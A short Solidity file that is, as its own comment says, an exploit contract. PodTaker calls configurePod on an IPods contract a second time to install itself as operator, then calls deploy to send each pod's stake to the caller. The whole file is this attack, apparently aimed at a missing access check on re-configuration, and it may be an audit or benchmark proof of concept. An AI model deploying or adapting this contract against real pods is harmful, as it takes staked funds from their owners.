// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IPods {
    function configurePod(uint256 id, address host, address operator, uint16 hostBps) external;

    function deploy(uint256 id, address venue, uint256 amount) external;
}

/// Configures pods a second time, with itself as their operator, and takes out the stake.
contract PodTaker {
    function run(IPods pods, address host, uint256[] calldata ids, uint256[] calldata amounts) external {
        for (uint256 i = 0; i < ids.length; i++) {
            pods.configurePod(ids[i], host, address(this), 1_000);
            pods.deploy(ids[i], msg.sender, amounts[i]);
        }
    }
}
